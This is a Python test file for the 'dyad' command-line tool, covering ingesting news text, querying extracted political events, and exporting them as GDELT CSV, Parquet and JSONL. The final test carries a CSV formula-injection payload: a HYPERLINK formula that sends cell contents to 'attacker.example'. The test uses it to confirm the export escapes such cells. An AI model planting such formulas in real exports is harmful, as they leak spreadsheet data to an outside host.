"""``dyad ingest``, ``query`` and ``stats`` end to end on files and a SQLite store."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys

import pytest
from click.testing import CliRunner

from dyad import cli

CALL = "Japan lodged a formal protest with China on Friday, the Japanese government said."
TALKS = "Poland and Lithuania held talks in Warsaw on Monday."


@pytest.fixture
def run(engine, monkeypatch):
    monkeypatch.setattr(cli, "load_engine", lambda *dicts: engine)
    runner = CliRunner()
    return lambda *args: runner.invoke(cli.cli, list(args))


def test_ingest_reports_bad_input_keeps_the_rest_and_query_reads_it_back(run, tmp_path):
    corpus = tmp_path / "corpus"
    (corpus / "sub").mkdir(parents=True)
    (corpus / "call.txt").write_text(CALL, encoding="utf-8")
    (corpus / "sub" / "image.bin").write_bytes(bytes(range(256)) * 8)
    lines = [json.dumps({"id": "talks", "lang": "en", "published": "2024-05-06", "text": TALKS}), "{broken", ""]
    (corpus / "docs.jsonl").write_text("\n".join(lines), encoding="utf-8")
    db = f"sqlite:///{tmp_path / 'x.db'}"
    result = run("ingest", "--db", db, "--published", "2025-10-17", "--json", str(corpus))
    assert result.exit_code == 1  # something was skipped
    assert "image.bin" in result.stderr and "docs.jsonl:2" in result.stderr
    summary = json.loads(result.stdout)
    assert summary["documents"] == 2 and summary["skipped"] == 2 and summary["store"]["documents"] == 2
    again = json.loads(run("ingest", "--db", db, "--json", str(corpus / "call.txt")).stdout)
    assert again["documents"] == 0 and again["already_stored"] == 1
    rows = list(csv.DictReader(io.StringIO(run("query", "--db", db, "--actor", "JPN", "--format", "csv").stdout)))
    assert [(r["source"], r["root"], r["target"], r["day"]) for r in rows] == [("JPN", "11", "CHN", "2025-10-17")]
    assert rows[0]["evidence"].startswith("Japan lodged")
    table = run("query", "--db", db, "--from", "2024-05-01", "--to", "2024-05-31").stdout
    assert "POL" in table and "JPN" not in table
    stats = json.loads(run("stats", "--db", db, "--json").stdout)
    assert stats["store"]["events"] == 2 and sorted(r[0] for r in stats["per_root"]) == ["04", "11"]


def test_bad_query_parameters_are_clear_errors(run, tmp_path):
    db = f"sqlite:///{tmp_path / 'x.db'}"
    result = run("query", "--db", db, "--from", "2025-02-01", "--to", "2025-01-01")
    assert result.exit_code == 2 and "is after" in result.output
    result = run("query", "--db", db, "--root", "4")
    assert result.exit_code == 2 and "not a CAMEO root" in result.output
    result = run("query", "--db", db, "--modality", "maybe")
    assert result.exit_code == 2 and "not a modality" in result.output


def test_a_database_that_does_not_connect_is_one_line_and_exit_2(tmp_path):
    done = subprocess.run([sys.executable, "-m", "dyad.cli", "query", "--db", "postgresql://u:pw@127.0.0.1:1/none"],
                          capture_output=True, text=True, timeout=60)  # fmt: skip
    assert done.returncode == 2
    assert done.stderr.startswith("dyad: error: ") and "cannot open the database" in done.stderr
    assert "Traceback" not in done.stderr and "pw@" not in done.stderr


def test_exports_gdelt_columns_jsonl_and_typed_parquet(run, tmp_path):
    import datetime as dt

    import pyarrow.parquet as pq

    from dyad.store.export import GDELT_COLUMNS

    db = f"sqlite:///{tmp_path / 'x.db'}"
    docs = tmp_path / "docs.jsonl"
    docs.write_text("\n".join(json.dumps({"id": f"d{i}", "lang": "en", "published": "2024-05-07", "url": f"https://n{i}.example/a",
                                          "text": f"{TALKS} Reported by outlet {i}."}) for i in range(2)) + "\n", encoding="utf-8")  # fmt: skip
    assert run("ingest", "--db", db, "-q", str(docs)).exit_code == 0
    lines = run("export", "--db", db, "--format", "gdelt-csv").stdout.splitlines()
    (row,) = [line.split("\t") for line in lines]
    assert len(GDELT_COLUMNS) == 61 and len(row) == 61
    gdelt = dict(zip(GDELT_COLUMNS, row, strict=True))
    assert (gdelt["Day"], gdelt["EventRootCode"], gdelt["NumArticles"], gdelt["NumSources"]) == ("20240506", "04", "2", "2")
    assert {gdelt["Actor1CountryCode"], gdelt["Actor2CountryCode"]} == {"POL", "LTU"} and gdelt["SOURCEURL"] == "https://n0.example/a"
    assert (gdelt["ActionGeo_Type"], gdelt["ActionGeo_FullName"], gdelt["ActionGeo_CountryCode"], gdelt["ActionGeo_FeatureID"]) == (
        "4", "Warsaw, Poland", "PL", "756135")
    assert gdelt["ActionGeo_ADM1Code"].startswith("PL") and abs(float(gdelt["ActionGeo_Lat"]) - 52.23) < 0.1
    (event,) = [json.loads(line) for line in run("export", "--db", db, "--format", "jsonl").stdout.splitlines()]
    assert [m["document"] for m in event["mentions"]] == ["d0", "d1"]
    assert run("export", "--db", db, "--format", "parquet").exit_code == 2  # binary needs a file
    target = tmp_path / "events.parquet"
    assert run("export", "--db", db, "--format", "parquet", "-o", str(target)).exit_code == 0
    table = pq.read_table(target)
    assert str(table.schema.field("day").type) == "date32[day]" and str(table.schema.field("num_mentions").type) == "int32"
    assert table.to_pylist()[0]["day"] == dt.date(2024, 5, 6) and table.to_pylist()[0]["documents"] == ["d0", "d1"]


def test_parquet_export_reads_typed_in_duckdb_and_polars(run, tmp_path):
    import datetime as dt

    import duckdb
    import polars as pl

    db = f"sqlite:///{tmp_path / 'x.db'}"
    docs = tmp_path / "docs.jsonl"
    docs.write_text("\n".join(json.dumps({"id": f"d{i}", "lang": "en", "published": "2024-05-07", "url": f"https://n{i}.example/a",
                                          "text": f"{TALKS} Reported by outlet {i}."}) for i in range(3)) + "\n", encoding="utf-8")  # fmt: skip
    assert run("ingest", "--db", db, "-q", str(docs)).exit_code == 0
    target = tmp_path / "events.parquet"
    assert run("export", "--db", db, "--format", "parquet", "-o", str(target)).exit_code == 0
    frame = pl.read_parquet(target)
    assert frame.schema["day"] == pl.Date and frame.schema["num_mentions"] == pl.Int32
    assert frame["day"].to_list() == [dt.date(2024, 5, 6)] and frame["documents"].to_list() == [["d0", "d1", "d2"]]
    connection = duckdb.connect()
    types = dict(connection.execute(f"SELECT column_name, column_type FROM (DESCRIBE SELECT * FROM read_parquet('{target}'))").fetchall())
    assert types["day"] == "DATE" and types["goldstein"] == "DOUBLE"
    (row,) = connection.execute(f"SELECT day, num_mentions, len(documents) FROM read_parquet('{target}') WHERE day >= DATE '2024-05-01'").fetchall()
    assert row == (dt.date(2024, 5, 6), 3, 3)
    (geo,) = connection.execute(f"SELECT geo_name, geo_country, geo_geonameid, geo_from, contexts FROM read_parquet('{target}')").fetchall()
    assert geo[:4] == ("Warsaw", "POL", 756135, "text") and isinstance(geo[4], list)
    assert types["geo_lat"] == "DOUBLE" and types["geo_geonameid"] == "BIGINT"


def test_query_by_place_and_context_and_clear_errors(run, tmp_path):
    db = f"sqlite:///{tmp_path / 'x.db'}"
    docs = tmp_path / "docs.jsonl"
    docs.write_text("\n".join(json.dumps(d) for d in [
        {"id": "a", "lang": "en", "published": "2024-05-07", "text": TALKS},
        {"id": "b", "lang": "en", "published": "2024-05-08", "text": "Japan and China held talks on trade in Osaka on Tuesday."},
    ]), encoding="utf-8")  # fmt: skip
    assert run("ingest", "--db", db, "-q", str(docs)).exit_code == 0

    def days(*args):
        result = run("query", "--db", db, "--format", "jsonl", *args)
        assert result.exit_code == 0, result.output
        return sorted(json.loads(line)["geo"]["name"] for line in result.stdout.splitlines())

    assert days("--country-of-action", "pol") == ["Warsaw"]
    assert days("--near", "Варшава", "--within", "50") == ["Warsaw"]
    assert days("--near", "34.69,135.50") == ["Osaka"] and days("--near", "Kyoto", "--within", "10") == []
    assert days("--near", "Kyoto", "--within", "60") == ["Osaka"]
    assert days("--context", "economic") == ["Osaka"]
    rows = list(csv.DictReader(io.StringIO(run("query", "--db", db, "--format", "csv", "--country-of-action", "JPN").stdout)))
    assert [(r["geo_name"], r["geo_country"], r["geo_from"], "economic" in r["contexts"].split(";")) for r in rows] == [
        ("Osaka", "JPN", "text", True)]
    assert "Osaka" in run("query", "--db", db).stdout  # the table's place column
    for args, words in ((("--near", "Qwzxv"), "neither LAT,LON nor a place"), (("--near", "95,10"), "latitude"),
                        (("--country-of-action", "Poland"), "alpha-3"), (("--context", "sports"), "not a PLOVER context")):  # fmt: skip
        result = run("query", "--db", db, *args)
        assert result.exit_code == 2 and words in result.output, result.output


def test_eval_dedup_prints_pairwise_figures_of_the_merge(run, tmp_path):
    corpus = tmp_path / "groups.jsonl"
    rows = [("a", "g1", "2024-05-06", "Poland and Lithuania held talks in Warsaw on Monday."),
            ("b", "g1", "2024-05-07", "Lithuania and Poland held talks in Warsaw on Monday, officials said."),
            ("c", "g2", "2024-06-20", "Poland and Lithuania held talks in Vilnius on Thursday.")]  # fmt: skip
    corpus.write_text("\n".join(json.dumps({"id": i, "lang": "en", "published": p, "text": t,
                                            "dedup": {"group": g, "source": "POL", "target": "LTU", "root": "04"}})
                                for i, g, p, t in rows), encoding="utf-8")  # fmt: skip
    result = run("eval-dedup", str(corpus))
    assert result.exit_code == 0, result.output
    assert "P=1.000 R=1.000" in result.stdout and "tp=1 fp=0 fn=0" in result.stdout
    wide = run("eval-dedup", "--window", "31", str(corpus))  # 45 days apart: still two events
    assert wide.exit_code == 0 and "tp=1 fp=0 fn=0" in wide.stdout
    assert run("eval-dedup", "--window", "90", str(corpus)).exit_code == 2


def test_bench_of_queries_fills_a_store_and_prints_percentiles(tmp_path):
    from dyad.bench import run_query_bench

    out = run_query_bench(f"sqlite:///{tmp_path / 'q.db'}", 2000, repeats=3)
    assert "2,000 events" in out and "p50" in out and "p95" in out


def test_the_progress_line_counts_documents_and_gives_an_eta_when_the_total_is_known(tmp_path):
    from dyad.ingest.files import count_documents
    from dyad.progress import Progress

    (tmp_path / "a.txt").write_text(CALL, encoding="utf-8")
    (tmp_path / "b.jsonl").write_text("{}\n\n{}\n{}\n", encoding="utf-8")
    assert count_documents([str(tmp_path)]) == 4
    (tmp_path / "c.rss").write_text("<rss/>", encoding="utf-8")
    assert count_documents([str(tmp_path)]) is None and count_documents(["-"]) is None
    stream = io.StringIO()
    progress = Progress(enabled=True, total=10, stream=stream)
    progress.update(5, 12)
    progress.done()
    line = stream.getvalue()
    assert "5 of 10 documents" in line and "12 events" in line and "ETA" in line and line.endswith("\n")
    quiet = io.StringIO()
    Progress(enabled=False, total=10, stream=quiet).update(5, 12)
    assert quiet.getvalue() == ""


def test_csv_cells_an_article_could_turn_into_spreadsheet_formulas_are_kept_as_text(run, tmp_path):
    db = f"sqlite:///{tmp_path / 'x.db'}"
    docs = tmp_path / "docs.jsonl"
    hostile = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
    docs.write_text("\n".join(json.dumps(d) for d in [
        {"id": "a", "lang": "en", "published": "2024-05-07", "text": TALKS, "url": hostile},
        {"id": "b", "lang": "en", "published": "2024-05-08", "text": "- " + CALL, "url": "https://news.example/b"},
    ]), encoding="utf-8")  # fmt: skip
    assert run("ingest", "--db", db, "-q", str(docs)).exit_code == 0
    rows = list(csv.DictReader(io.StringIO(run("query", "--db", db, "--format", "csv").stdout)))
    cells = {r["source"]: (r["evidence"], r["url"]) for r in rows}
    assert cells["POL"][1] == "'" + hostile and cells["JPN"][0].startswith("'- Japan lodged") and cells["JPN"][1] == "https://news.example/b"
    reports = [m for line in run("query", "--db", db, "--format", "jsonl").stdout.splitlines() for m in json.loads(line)["mentions"]]
    assert hostile in [m["url"] for m in reports]  # JSON lines keep the text as it was
